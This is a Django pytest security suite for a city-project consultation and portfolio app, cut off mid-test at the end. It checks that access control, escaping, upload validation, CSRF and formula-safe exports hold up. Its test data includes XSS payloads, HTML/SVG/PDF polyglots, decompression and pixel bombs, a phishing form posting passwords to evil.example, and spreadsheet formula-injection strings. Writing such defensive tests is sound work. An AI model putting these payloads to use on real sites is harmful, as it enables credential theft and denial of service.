"""Issue 16 seen from an attacker's side: the consultation desk, the public page of projects,
the project's objects, the staff portfolio and its exports, the deliverables' admin and the
project's timeline.

Every passing test documents a defence. Each weakness found is a test marked
`xfail(strict=True)` that fails while the weakness is there (and so turns the suite red once it
is fixed, to be unmarked). The six weaknesses the first review found are fixed; their tests now
document the defences."""

import csv
import io
import json
import zipfile

import pytest
from django.contrib.auth.models import Permission
from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from proposals import services
from proposals.admin.projects import MAX_PUBLIC_IMAGE_BYTES, PUBLIC_IMAGE_TYPES
from proposals.models import (
    Country,
    DeliverableKind,
    DeskFile,
    DeskMessage,
    DeskRequest,
    DeskState,
    FinancingKind,
    KickOff,
    MemberRole,
    Notification,
    Project,
)
from proposals.services import set_published
from smartjamp.uploads import check_upload

from .conftest import member
from .factories import (
    UserFactory,
    docx_bytes,
    image_bytes,
    make_proposal,
    pdf_bytes,
    upload,
)

SUMMARY = "Sensors along the Han river warn households of floods in time."
XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def page_text(response) -> str:
    return response.content.decode()


def publish(project, staff, **public) -> Project:
    Project.objects.filter(pk=project.pk).update(public_summary=SUMMARY, **public)
    set_published(actor=staff, project=project, published=True)
    return Project.objects.get(pk=project.pk)


def change_form(project, **fields) -> dict:
    """The project's admin form as staff would post it, with `fields` (as in
    tests/views/test_public_projects.py)."""
    data = {
        "report_by": project.report_by.isoformat(),
        "fiscal_year": project.fiscal_year,
        "consultants": "",
        "public_title": project.public_title,
        "public_summary": project.public_summary,
    }
    if project.published:
        data["published"] = "on"
    for prefix in ("kickoff", "payments", "financing_tracks", "invitations", "stage_changes"):
        data |= {f"{prefix}-TOTAL_FORMS": "0", f"{prefix}-INITIAL_FORMS": "0"}
    for n, deliverable in enumerate(project.deliverables.all()):
        data |= {
            f"deliverables-{n}-id": deliverable.pk,
            f"deliverables-{n}-project": project.pk,
            f"deliverables-{n}-due_on": deliverable.due_on.isoformat(),
        }
    data["deliverables-TOTAL_FORMS"] = data["deliverables-INITIAL_FORMS"] = "4"
    return data | fields


# Actors ------------------------------------------------------------------------------------


@pytest.fixture
def consultant(project):
    user = UserFactory(email="consultant@nippon-survey.example", full_name="Kenji Mori")
    project.consultants.add(user)
    return user


@pytest.fixture
def cebu_project(call, cebu, cebu_lead, approve):
    return approve(
        make_proposal(call, cebu, cebu_lead, title="Cebu bus rapid transit"), cebu_lead
    ).project


@pytest.fixture
def cebu_editor(cebu):
    return member(cebu, "editor.cebu@example.org", "Jose Reyes", MemberRole.EDITOR)


@pytest.fixture
def consultant_elsewhere(cebu_project):
    user = UserFactory(email="consultant@cebu-survey.example", full_name="Ren Kato")
    cebu_project.consultants.add(user)
    return user


@pytest.fixture
def company(reference_data):
    return UserFactory(
        email="desk@tokyo-water.example", full_name="Emi Ito", company="Tokyo Water Co."
    )


@pytest.fixture
def bare_staff(reference_data):
    """An admin user with no permission at all."""
    return UserFactory(email="intern@mlit.example", full_name="Taro Intern", is_staff=True)


@pytest.fixture
def desk_only_staff(reference_data):
    """Staff who may read and answer the desk, but not read proposals or projects."""
    user = UserFactory(email="desk.officer@mlit.example", full_name="Desk Officer", is_staff=True)
    user.user_permissions.set(
        Permission.objects.filter(codename__in=["view_deskrequest", "change_deskrequest"])
    )
    return user


@pytest.fixture
def outsiders(cebu_lead, cebu_editor, consultant_elsewhere, company, reviewer, bare_staff):
    """Everybody who may not open Da Nang's project or Da Nang's desk requests."""
    return {
        "visitor": Client(),
        "cebu_lead": signed_in(cebu_lead),
        "cebu_editor": signed_in(cebu_editor),
        "consultant_elsewhere": signed_in(consultant_elsewhere),
        "company": signed_in(company),
        "reviewer": signed_in(reviewer),
        "bare_staff": signed_in(bare_staff),
    }


@pytest.fixture
def version(project, consultant):
    deliverable = project.deliverables.get(kind=DeliverableKind.INCEPTION)
    return services.upload_deliverable(
        user=consultant, deliverable=deliverable, upload=upload("Inception.pdf")
    )


@pytest.fixture
def kickoff(project):
    from django.core.files.base import ContentFile

    kickoff = KickOff(
        project=project,
        held_on="2027-05-10",
        place="Da Nang",
        mlit_signatory="MLIT counsellor",
        city_signatory="Mayor",
        minutes_name="minutes.pdf",
    )
    kickoff.minutes.save("m.pdf", ContentFile(pdf_bytes("minutes")), save=False)
    kickoff.save()
    return kickoff


@pytest.fixture
def city_request(danang, danang_lead):
    return services.open_request(
        user=danang_lead,
        topic="financing",
        subject="JBIC loan terms",
        body="Which tenor may we expect for Da Nang?",
        city=danang,
        files=[upload("Budget.pdf")],
    )


# Access: every URL x object x role -----------------------------------------------------------


def project_urls(project, version):
    code = project.code
    return [
        ("get", reverse("project_detail", args=[code])),
        ("get", reverse("kickoff_minutes", args=[code])),
        ("get", reverse("deliverable_file", args=[code, version.code])),
        ("get", reverse("public_project_image", args=[code])),
        ("post", reverse("deliverable_upload", args=[code, "inception"])),
        ("post", reverse("deliverable_review", args=[code, "inception"])),
    ]


def desk_urls(desk_request):
    code = desk_request.code
    file_code = desk_request.files.get().code
    return [
        ("get", reverse("desk_request", args=[code])),
        ("get", reverse("desk_file", args=[code, file_code])),
        ("post", reverse("desk_reply", args=[code])),
        ("post", reverse("desk_close", args=[code])),
        ("post", reverse("desk_link", args=[code])),
    ]


def test_outsiders_get_404_on_every_url_of_the_project_and_its_files(
    project, version, kickoff, outsiders, private_files
):
    Project.objects.filter(pk=project.pk).update(
        public_summary=SUMMARY, public_image="public/x.png", public_image_type="image/png"
    )
    for who, client in outsiders.items():
        for method, url in project_urls(project, version):
            data = {"file": upload("Evil.pdf"), "accept": "1", "comment": "x"}
            response = getattr(client, method)(url, data) if method == "post" else client.get(url)
            assert response.status_code == 404, (who, url, response.status_code)
    version.deliverable.refresh_from_db()
    assert version.deliverable.versions.count() == 1
    assert version.deliverable.state == "uploaded"


def test_a_consultant_of_another_project_cannot_reach_files_through_their_own_project(
    project, version, cebu_project, consultant_elsewhere
):
    """The file code of Da Nang's deliverable under the address of Cebu's project."""
    client = signed_in(consultant_elsewhere)
    url = reverse("deliverable_file", args=[cebu_project.code, version.code])
    assert client.get(url).status_code == 404


def test_the_citys_members_see_no_draft_files(project, version, danang_editor):
    url = reverse("deliverable_file", args=[project.code, version.code])
    assert signed_in(danang_editor).get(url).status_code == 404


def test_outsiders_get_404_on_every_url_of_a_desk_request_and_its_files(
    city_request, outsiders, consultant, project
):
    outsiders = {**outsiders, "consultant_of_its_project": signed_in(consultant)}
    services.link_request_to_project(
        actor=city_request.requester, desk_request=city_request, project=project
    )
    for who, client in outsiders.items():
        for method, url in desk_urls(city_request):
            data = {"body": "Pwned", "project": project.code}
            response = client.post(url, data) if method == "post" else client.get(url)
            assert response.status_code == 404, (who, url, response.status_code)
        listing = client.get(reverse("desk"))
        assert "JBIC loan terms" not in page_text(listing), who
    city_request.refresh_from_db()
    assert city_request.state == DeskState.OPEN
    assert not DeskMessage.objects.exists()


def test_a_desk_file_code_of_another_request_is_404_under_ones_own_request(
    city_request, cebu, cebu_lead
):
    own = services.open_request(
        user=cebu_lead, topic="other", subject="Ours", body="Ours.", city=cebu
    )
    theirs = city_request.files.get()
    url = reverse("desk_file", args=[own.code, theirs.code])
    assert signed_in(cebu_lead).get(url).status_code == 404


def test_odd_codes_are_404_not_500(staff, danang_lead):
    for client in (Client(), signed_in(staff), signed_in(danang_lead)):
        for code in ["x" * 5000, "%00", "é🙂", "1 OR 1=1", "..%2F..%2Fetc"]:
            for name, args in [
                ("desk_request", [code]),
                ("desk_file", [code, code]),
                ("project_detail", [code]),
                ("public_project_image", [code]),
                ("kickoff_minutes", [code]),
            ]:
                response = client.get(reverse(name, args=args))
                assert response.status_code == 404, (name, code, response.status_code)


# Staff without the right permission ------------------------------------------------------------


def test_staff_without_permissions_get_404_on_the_portfolio_and_its_exports(
    project, bare_staff, reviewer, desk_only_staff
):
    urls = [reverse("staff_portfolio")] + [
        reverse(name, args=[fmt])
        for name in (
            "staff_export_projects",
            "staff_export_deliverables",
            "staff_export_financing_tracks",
        )
        for fmt in ("csv", "xlsx", "json")
    ]
    for user in (bare_staff, reviewer, desk_only_staff):
        client = signed_in(user)
        for url in urls:
            assert client.get(url).status_code == 404, (user, url)
    for url in urls:
        assert Client().get(url).status_code == 404


def test_desk_only_staff_cannot_open_the_project_itself(project, desk_only_staff):
    assert (
        signed_in(desk_only_staff).get(reverse("project_detail", args=[project.code])).status_code
        == 404
    )


def test_desk_only_staff_do_not_see_the_title_of_a_project_they_may_not_open(
    city_request, project, desk_only_staff
):
    services.link_request_to_project(
        actor=city_request.requester, desk_request=city_request, project=project
    )
    page = page_text(signed_in(desk_only_staff).get(city_request.get_absolute_url()))
    assert "JBIC loan terms" in page  # they may read the request
    assert project.proposal.title not in page


# Mass assignment and the desk's project link ---------------------------------------------------


def test_the_new_request_form_ignores_state_requester_company_and_refuses_others_cities(
    danang, danang_lead, cebu, cebu_lead, cebu_project, project
):
    client = signed_in(danang_lead)
    base = {"topic": "financing", "subject": "S", "body": "B"}
    # Another city, another city's project: refused, nothing stored.
    for extra in ({"city": cebu.code}, {"city": danang.code, "project": cebu_project.code}):
        response = client.post(reverse("desk_new"), base | extra)
        assert response.status_code == 200
        assert not DeskRequest.objects.exists()
    response = client.post(
        reverse("desk_new"),
        base
        | {
            "city": danang.code,
            "state": "closed",
            "requester": cebu_lead.pk,
            "company": "Evil Corp",
            "first_answered_at": "2020-01-01",
            "code": "chosen",
        },
    )
    assert response.status_code == 302
    created = DeskRequest.objects.get()
    assert (created.requester, created.city, created.company, created.state) == (
        danang_lead,
        danang,
        "",
        DeskState.OPEN,
    )
    assert created.first_answered_at is None and created.code != "chosen"


def test_a_company_account_cannot_ask_for_a_city(company, danang):
    response = signed_in(company).post(
        reverse("desk_new"),
        {"topic": "other", "subject": "S", "body": "B", "city": danang.code},
    )
    created = DeskRequest.objects.get()
    assert response.status_code == 302 and created.city is None
    assert created.company == "Tokyo Water Co."


def test_the_asker_cannot_post_as_staff(city_request, danang_lead):
    signed_in(danang_lead).post(
        reverse("desk_reply", args=[city_request.code]),
        {"body": "I am staff", "from_staff": "on"},
    )
    message = DeskMessage.objects.get()
    assert not message.from_staff
    city_request.refresh_from_db()
    assert city_request.first_answered_at is None  # the clock still runs


def test_the_asker_cannot_link_another_citys_project(city_request, danang_lead, cebu_project):
    response = signed_in(danang_lead).post(
        reverse("desk_link", args=[city_request.code]), {"project": cebu_project.code}
    )
    assert response.status_code == 302
    city_request.refresh_from_db()
    assert city_request.project is None
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        services.link_request_to_project(
            actor=danang_lead, desk_request=city_request, project=cebu_project
        )


def test_a_project_linked_by_staff_is_not_named_to_askers_who_may_not_open_it(
    city_request, cebu_project, staff, danang_lead
):
    services.link_request_to_project(actor=staff, desk_request=city_request, project=cebu_project)
    page = page_text(signed_in(danang_lead).get(city_request.get_absolute_url()))
    assert "Cebu bus rapid transit" not in page and cebu_project.code not in page
    # Nor in the desk's list.
    assert "Cebu bus rapid transit" not in page_text(signed_in(danang_lead).get(reverse("desk")))


def test_the_asker_sees_no_staff_names(city_request, staff, danang_editor):
    services.answer_request(actor=staff, desk_request=city_request, body="About 15 years.")
    page = page_text(signed_in(danang_editor).get(city_request.get_absolute_url()))
    assert "About 15 years." in page
    assert staff.full_name not in page and staff.email not in page
    assert "admin/" not in page.split("<main", 1)[-1]  # no staff-only control


# Notifications ---------------------------------------------------------------------------------


def desk_notes():
    return Notification.objects.filter(kind__startswith="desk")


def test_desk_notifications_reach_only_the_request_s_city_and_staff(
    city_request, staff, cebu_lead, reviewer, danang_editor, deliver, consultant
):
    deliver(services.answer_request, actor=staff, desk_request=city_request, body="Answer.")
    recipients = set(desk_notes().values_list("email", flat=True))
    assert cebu_lead.email not in recipients
    assert reviewer.email not in recipients
    assert consultant.email not in recipients
    assert danang_editor.email in recipients  # the city's members hear the answer
    for notification in Notification.objects.all():
        assert "<script" not in notification.body_html


def test_a_consultant_s_request_is_not_told_to_the_city_of_the_linked_project(
    project, consultant, danang_lead, deliver, staff
):
    desk_request = services.open_request(
        user=consultant, topic="technology", subject="Our fee", body="Private.", project=project
    )
    deliver(services.answer_request, actor=staff, desk_request=desk_request, body="Noted.")
    assert not desk_notes().filter(email=danang_lead.email).exists()
    assert signed_in(danang_lead).get(desk_request.get_absolute_url()).status_code == 404


# XSS ---------------------------------------------------------------------------------------


def test_desk_subjects_and_messages_are_escaped_everywhere(
    danang, danang_lead, staff, project, deliver
):
    desk_request = deliver(
        services.open_request,
        user=danang_lead,
        topic="other",
        subject=XSS,
        body=XSS,
        city=danang,
        project=project,
    )
    services.answer_request(actor=staff, desk_request=desk_request, body=XSS)
    as_staff = signed_in(staff)
    pages = [
        as_staff.get(reverse("desk")),
        as_staff.get(desk_request.get_absolute_url()),
        signed_in(danang_lead).get(desk_request.get_absolute_url()),
        as_staff.get(reverse("admin:proposals_deskrequest_changelist")),
        as_staff.get(reverse("admin:proposals_deskrequest_change", args=[desk_request.pk])),
        # The project's timeline names the request's subject (format_html_join).
        as_staff.get(reverse("admin:proposals_project_change", args=[project.pk])),
    ]
    for response in pages:
        assert response.status_code == 200
        html = page_text(response)
        assert "<script>alert" not in html and "<img src=x" not in html, response.request
    assert "&lt;script&gt;" in page_text(pages[-1])  # the timeline shows it, escaped
    for notification in Notification.objects.all():
        assert "<script>" not in notification.body_html


def test_public_title_summary_and_consultant_are_escaped(project, staff):
    publish(project, staff, public_title=XSS, consultant_company=XSS)
    Project.objects.filter(pk=project.pk).update(public_summary=XSS)
    cache.clear()
    for url in (reverse("public_projects"), reverse("project_detail", args=[project.code])):
        html = page_text(Client().get(url))
        assert "<script>alert" not in html and "<img src=x" not in html
        assert "&lt;script&gt;" in html


def test_the_svg_map_and_the_portfolio_escape_country_and_title(project, staff):
    Country.objects.filter(pk=project.proposal.city.country_id).update(name=XSS)
    Project.objects.filter(pk=project.pk).update(consultant_company=XSS)
    html = page_text(signed_in(staff).get(reverse("staff_portfolio")))
    assert "<svg" in html
    assert "<script>alert" not in html and "<img src=x" not in html


def test_the_timeline_escapes_every_kind_of_event(project, staff, consultant, version):
    services.review_deliverable(
        actor=staff, deliverable=version.deliverable, accept=False, comment=XSS
    )
    from proposals.models import FinancingTrack

    FinancingTrack.objects.create(
        project=project, kind=FinancingKind.JBIC_LOAN, counterpart=XSS, sought_jpy=1_000_000
    )
    KickOff.objects.create(
        project=project,
        held_on="2027-05-10",
        place=XSS,
        mlit_signatory="MLIT counsellor",
        city_signatory="Mayor",
    )
    html = page_text(
        signed_in(staff).get(reverse("admin:proposals_project_change", args=[project.pk]))
    )
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;" in html


# Hostile uploads -------------------------------------------------------------------------------


def desk_post(client, desk_request, *files):
    return client.post(
        reverse("desk_reply", args=[desk_request.code]), {"body": "Here.", "files": list(files)}
    )


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'


@pytest.mark.parametrize(
    "name, content",
    [
        ("report.pdf", HTML),
        ("report.pdf", SVG),
        ("report.docx", b"PK\x03\x04 not really a zip"),
        ("report.pdf", pdf_bytes("x") + b"<script>alert(1)</script>"),
        (
            "report.pdf",
            b"%PDF-1.4\n1 0 obj << /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> >>",
        ),
        ("report.pdf", image_bytes()),  # a PNG called a PDF: not a document type
    ],
    ids=["html", "svg", "fake-docx", "pdf-with-script", "pdf-escaped-js", "png"],
)
def test_desk_files_that_are_not_what_they_say_are_refused(
    city_request, danang_lead, private_files, name, content
):
    before = private_files()
    desk_post(signed_in(danang_lead), city_request, upload(name, content))
    assert not DeskMessage.objects.exists()
    assert DeskFile.objects.count() == 1  # the request's own
    assert private_files() == before


def docx_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"0" * (20 * 1024 * 1024))
    return buffer.getvalue()


def test_a_decompression_bomb_is_refused_at_the_desk(city_request, danang_lead, private_files):
    before = private_files()
    desk_post(signed_in(danang_lead), city_request, upload("bomb.docx", docx_bomb()))
    assert not DeskMessage.objects.exists() and private_files() == before


def test_an_oversized_desk_file_is_refused(city_request, danang_lead, private_files, settings):
    settings.UPLOAD_HARD_LIMIT_BYTES = 500
    before = private_files()
    response = desk_post(
        signed_in(danang_lead), city_request, upload("big.pdf", pdf_bytes(size=2000))
    )
    assert response.status_code == 302
    assert not DeskMessage.objects.exists() and private_files() == before


def test_too_many_desk_files_are_refused(city_request, danang_lead):
    desk_post(signed_in(danang_lead), city_request, *[upload(f"{n}.pdf") for n in range(6)])
    assert not DeskMessage.objects.exists()


def test_a_desk_file_is_renamed_to_its_content_and_served_as_an_attachment(
    city_request, danang_lead
):
    client = signed_in(danang_lead)
    desk_post(client, city_request, upload("notes.pdf.html", docx_bytes()))
    stored = DeskFile.objects.get(message__isnull=False)
    assert stored.name == "notes-pdf-html.docx"
    response = client.get(reverse("desk_file", args=[city_request.code, stored.code]))
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_deliverable_files_are_served_as_attachments(project, version, consultant):
    response = signed_in(consultant).get(
        reverse("deliverable_file", args=[project.code, version.code])
    )
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_a_deliverable_that_is_html_is_refused(project, consultant, private_files):
    before = private_files()
    response = signed_in(consultant).post(
        reverse("deliverable_upload", args=[project.code, "inception"]),
        {"file": upload("Inception.pdf", HTML)},
    )
    assert response.status_code == 302
    assert not project.deliverables.get(kind="inception").versions.exists()
    assert private_files() == before


def jpeg_then(tail: bytes) -> bytes:
    return image_bytes("JPEG") + tail


def png_chunk(kind: bytes, data: bytes) -> bytes:
    import struct
    import zlib

    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb() -> bytes:
    """A valid PNG header declaring 100,000 x 100,000 pixels."""
    import struct

    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IEND", b"")


@pytest.mark.parametrize(
    "content",
    [
        SVG,
        HTML,
        b"GIF89a" + HTML,
        image_bytes() + HTML,  # a PNG with a web page after its end
        jpeg_then(b"<svg onload=alert(1)>"),
        jpeg_then(HTML),
        png_bomb(),
        image_bytes("JPEG", size=(8000, 8000)),  # 64 megapixels
        pdf_bytes("x"),
        image_bytes("GIF"),
        image_bytes("WEBP"),
    ],
    ids=[
        "svg",
        "html",
        "gif-html",
        "png-polyglot",
        "jpeg-svg",
        "jpeg-html",
        "png-bomb",
        "jpeg-64mp",
        "pdf",
        "gif",
        "webp",
    ],
)
def test_a_public_image_that_is_not_a_plain_png_or_jpeg_is_refused(content):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        check_upload(
            upload("river.png", content, "image/png"),
            allowed=PUBLIC_IMAGE_TYPES,
            max_bytes=MAX_PUBLIC_IMAGE_BYTES,
        )


PHISHING_PAGE = (
    b'<html><body><h1>Smart JAMP sign-in</h1><form action="https://evil.example/steal">'
    b'<input name="password" type="password"></form></body></html>'
)


def served_public_image(project, staff, name, content, content_type) -> bytes:
    """Upload `content` as the project's public image through the admin; what the public
    address then serves."""
    signed_in(staff).post(
        reverse("admin:proposals_project_change", args=[project.pk]),
        change_form(
            project,
            published="on",
            public_summary=SUMMARY,
            public_image=upload(name, content, content_type),
        ),
    )
    response = Client().get(reverse("public_project_image", args=[project.code]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_a_jpeg_with_a_web_page_after_its_end_is_served_as_its_pixels_only(project, staff):
    from PIL import Image

    served = served_public_image(
        project, staff, "river.jpg", jpeg_then(PHISHING_PAGE), "image/jpeg"
    )
    assert PHISHING_PAGE not in served and b"<form" not in served.lower()
    assert Image.open(io.BytesIO(served)).format == "JPEG"


def test_the_public_image_is_served_with_its_checked_type_and_nosniff(project, staff):
    from django.core.files.base import ContentFile

    project = publish(project, staff)
    project.public_image_type = "image/png"
    project.public_image.save("x", ContentFile(image_bytes()), save=True)
    response = Client().get(reverse("public_project_image", args=[project.code]))
    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "filename=" in response["Content-Disposition"]


# The public page and its cache -----------------------------------------------------------------


def test_an_unpublished_project_is_gone_from_a_warm_cache_page_detail_and_image(
    project, staff, cebu_lead
):
    from django.core.files.base import ContentFile

    project = publish(project, staff)
    project.public_image_type = "image/png"
    project.public_image.save("x", ContentFile(image_bytes()), save=True)
    urls = [
        reverse("public_projects"),
        reverse("public_projects") + "?stage=formation_survey",
        reverse("project_detail", args=[project.code]),
    ]
    for client in (Client(), signed_in(cebu_lead)):
        for url in urls:
            assert "Flood early warning" in page_text(client.get(url))
    set_published(actor=staff, project=project, published=False)
    for client in (Client(), signed_in(cebu_lead)):
        for url in urls[:2]:
            html = page_text(client.get(url))
            assert "Flood early warning" not in html and project.code not in html
        assert client.get(urls[2]).status_code == 404
        assert client.get(reverse("public_project_image", args=[project.code])).status_code == 404


def test_a_cancelled_project_staying_published_shows_no_reason(project, staff):
    project = publish(project, staff)
    Project.objects.filter(pk=project.pk).update(cancel_reason="Mayor arrested for fraud")
    Project.objects.get(pk=project.pk).save()
    for url in (reverse("public_projects"), reverse("project_detail", args=[project.code])):
        assert "Mayor arrested" not in page_text(Client().get(url))


def test_the_cached_public_pages_hold_nothing_of_the_reader_who_built_them(
    project, staff, cebu_lead
):
    publish(project, staff)
    urls = [reverse("public_projects"), reverse("project_detail", args=[project.code])]
    tokens = []
    for user in (cebu_lead, staff):
        client = signed_in(user)
        for url in urls:
            client.get(url)
        tokens.append(client.cookies.get("csrftoken"))
    for url in urls:
        html = page_text(Client().get(url))
        assert "Flood early warning" in html
        for user in (cebu_lead, staff):
            assert user.full_name not in html and user.email not in html
        for token in tokens:
            assert token is None or token.value not in html
        assert "Staff dashboard" not in html and "admin/" not in html


def count_cache_rows() -> int:
    from django.conf import settings
    from django.core.cache import caches
    from django.db import connection

    if "redis" in settings.CACHES["default"]["BACKEND"].lower():  # pragma: no cover - CI
        return len(list(caches["default"]._cache.get_client().scan_iter("*")))
    with connection.cursor() as cursor:
        cursor.execute("SELECT COUNT(*) FROM smartjamp_cache")
        return cursor.fetchone()[0]


def test_odd_query_strings_are_no_500_and_do_not_grow_the_cache(project, staff):
    publish(project, staff)
    client = Client()
    client.get(reverse("public_projects"))
    before = count_cache_rows()
    odd = [
        "fiscal_year=abc",
        "fiscal_year=99999999999999999999999",
        "fiscal_year=-1",
        "page=-1",
        "page=abc",
        "page=99999999999999999999",
        "page=1e9",
        "country=%00",
        "country=VN%00",
        "focus_area=" + "é" * 3000,
        "stage=" + "🙂" * 100,
        "stage[]=x",
        "junk=1",
        "junk=2",
        "utm_source=" + "a" * 5000,
    ]
    for query in odd:
        response = client.get(reverse("public_projects") + "?" + query)
        assert response.status_code == 200, query
    # The invalid filters are not cached; the junk and page numbers fall on existing pages.
    assert count_cache_rows() - before <= 2


@pytest.mark.parametrize(
    "query",
    [
        "fiscal_year=abc",
        "fiscal_year=1e400",
        "fiscal_year=NaN",
        "fiscal_year=Infinity",
        "fiscal_year=99999999999999999999999",
        "fiscal_year=2026.5",
        "page=-1",
        "page=abc",
        "page=9999999999999999999999",
        "call=%00",
        "country=" + "é" * 2000,
        "call=" + "🙂" * 50,
    ],
)
def test_odd_portfolio_and_desk_queries_are_no_500(project, staff, query, city_request):
    client = signed_in(staff)
    for url in (
        reverse("staff_portfolio"),
        reverse("staff_export_projects", args=["csv"]),
        reverse("staff_export_deliverables", args=["json"]),
        reverse("staff_export_financing_tracks", args=["xlsx"]),
        reverse("desk"),
    ):
        response = client.get(url + "?" + query + "&state=zzz&topic=%00&overdue=maybe")
        assert response.status_code == 200, (url, query, response.status_code)


def test_an_unknown_export_format_is_404(staff):
    client = signed_in(staff)
    for fmt in ("html", "exe", "csv%00", "CSV"):
        assert client.get(f"/staff/exports/projects.{fmt}").status_code == 404


# Formula injection in the exports ----------------------------------------------------------------

RISKY = ['=HYPERLINK("http://evil")', "+1+cmd", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "|x", "%x"]


@pytest.fixture
def risky_project(project, staff):
    """Da Nang's project with formulas in every text its exports carry."""
    Project.objects.filter(pk=project.pk).update(
        consultant_company=RISKY[0], corporate_number=RISKY[1]
    )
    project.proposal.__class__.objects.filter(pk=project.proposal.pk).update(title=RISKY[3])
    from proposals.models import FinancingTrack

    FinancingTrack.objects.create(
        project=project, kind=FinancingKind.JBIC_LOAN, counterpart=RISKY[4], sought_jpy=1
    )
    FinancingTrack.objects.create(
        project=project, kind=FinancingKind.JOIN_EQUITY, counterpart=RISKY[5], sought_jpy=1
    )
    return project


def csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def test_the_portfolio_csv_exports_are_formula_safe(risky_project, staff):
    client = signed_in(staff)
    for name in (
        "staff_export_projects",
        "staff_export_deliverables",
        "staff_export_financing_tracks",
    ):
        cells = csv_cells(client.get(reverse(name, args=["csv"])))
        assert cells
        for cell in cells:
            risky = cell[:1] in tuple("=+-@\t\r|%")
            assert not risky or cell.lstrip("-").replace(".", "").isdigit(), (name, cell)
    cells = csv_cells(client.get(reverse("staff_export_financing_tracks", args=["csv"])))
    assert "'\t=1+1" in cells and "'\r=1+1" in cells
    cells = csv_cells(client.get(reverse("staff_export_projects", args=["csv"])))
    assert "'" + RISKY[0] in cells and "'@SUM(A1)" in cells


def test_the_portfolio_excel_exports_hold_no_formula(risky_project, staff):
    client = signed_in(staff)
    for name in (
        "staff_export_projects",
        "staff_export_deliverables",
        "staff_export_financing_tracks",
    ):
        response = client.get(reverse(name, args=["xlsx"]))
        workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        for row in workbook.active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (name, cell.value)


def test_the_portfolio_json_export_is_plain_data(risky_project, staff):
    response = signed_in(staff).get(reverse("staff_export_projects", args=["json"]))
    rows = json.loads(b"".join(response.streaming_content))
    assert rows[0]["consultant"] == RISKY[0]  # data, not a formula: JSON is read as data
    assert response["Content-Type"].startswith("application/json")
    assert response["Content-Disposition"].startswith("attachment;")


def test_leading_spaces_cannot_be_stored_through_the_admin_form(project, staff):
    """A formula behind spaces would pass the exports' first-character test; the admin's
    forms strip the spaces (and tabs and carriage returns) before anything is stored."""
    response = signed_in(staff).post(
        reverse("admin:proposals_project_change", args=[project.pk]),
        change_form(project, consultant_company='   =HYPERLINK("http://evil")'),
    )
    assert response.status_code == 302
    project.refresh_from_db()
    assert project.consultant_company == '=HYPERLINK("http://evil")'


# CSRF ------------------------------------------------------------------------------------------


def test_every_new_post_needs_the_csrf_token(
    project, version, city_request, danang_lead, consultant, staff
):
    posts = [
        (danang_lead, reverse("desk_new"), {"topic": "other", "subject": "S", "body": "B"}),
        (danang_lead, reverse("desk_reply", args=[city_request.code]), {"body": "B"}),
        (danang_lead, reverse("desk_close", args=[city_request.code]), {}),
        (danang_lead, reverse("desk_link", args=[city_request.code]), {"project": project.code}),
        (
            consultant,
            reverse("deliverable_upload", args=[project.code, "interim"]),
            {"file": upload("Interim.pdf")},
        ),
        (staff, reverse("deliverable_review", args=[project.code, "inception"]), {"accept": "1"}),
        (
            staff,
            reverse("admin:proposals_project_changelist"),
            {"action": "publish", "_selected_action": [project.pk]},
        ),
    ]
    for user, url, data in posts:
        client = Client(enforce_csrf_checks=True)
        client.force_login(user)
        assert client.post(url, data).status_code == 403, url
    city_request.refresh_from_db()
    assert city_request.state == DeskState.OPEN and city_request.project is None
    assert DeskRequest.objects.count() == 1 and not DeskMessage.objects.exists()
    assert not Project.objects.get(pk=project.pk).published


def test_the_desk_pages_refuse_get_for_changes(city_request, danang_lead):
    client = signed_in(danang_lead)
    for name in ("desk_reply", "desk_close", "desk_link"):
        assert client.get(reverse(name, args=[city_request.code])).status_code == 405
    city_request.refresh_from_db()
    assert city_request.state == DeskState.OPEN


# The deliverables' admin -------------------------------------------------------------------------


def test_the_deliverables_admin_is_closed_to_reviewers_and_bare_staff(
    project, version, reviewer, bare_staff
):
    deliverable = version.deliverable
    for user in (reviewer, bare_staff):
        client = signed_in(user)
        for url in (
            reverse("admin:proposals_deliverable_changelist"),
            reverse("admin:proposals_deliverable_change", args=[deliverable.pk]),
            reverse("admin:proposals_deskrequest_changelist"),
        ):
            assert client.get(url).status_code in (302, 403, 404), (user, url)
        response = client.post(
            reverse("admin:proposals_deliverable_changelist"),
            {"action": "accept", "_selected_action": [deliverable.pk]},
        )
        assert response.status_code in (302, 403, 404)
    deliverable.refresh_from_db()
    assert deliverable.state == "uploaded"


def test_the_deliverables_admin_escapes_the_file_name(project, consultant, staff):
    deliverable = project.deliverables.get(kind=DeliverableKind.INCEPTION)
    services.upload_deliverable(
        user=consultant,
        deliverable=deliverable,
        upload=upload('"><svg onload=alert(1)>.pdf', pdf_bytes("x")),
    )
    html = page_text(
